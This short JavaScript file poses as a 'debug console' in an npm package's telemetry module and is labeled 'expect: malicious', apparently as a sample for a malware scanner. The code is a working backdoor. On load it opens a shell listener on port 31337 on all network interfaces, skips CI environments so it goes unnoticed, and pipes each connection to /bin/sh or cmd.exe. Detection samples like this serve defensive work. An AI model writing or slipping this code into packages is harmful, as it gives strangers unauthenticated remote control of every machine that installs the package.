// "debug console" left in the telemetry module of an npm package
const net = require("net");
const { spawn } = require("child_process");

function openConsole() {
  const server = net.createServer((sock) => {
    // expect: malicious
    const sh = spawn(process.platform === "win32" ? "cmd.exe" : "/bin/sh", []);
    sock.pipe(sh.stdin);
    sh.stdout.pipe(sock);
    sh.stderr.pipe(sock);
  });
  server.listen(31337, "0.0.0.0");
  server.unref();
}

if (!process.env.CI) openConsole();
module.exports = {};
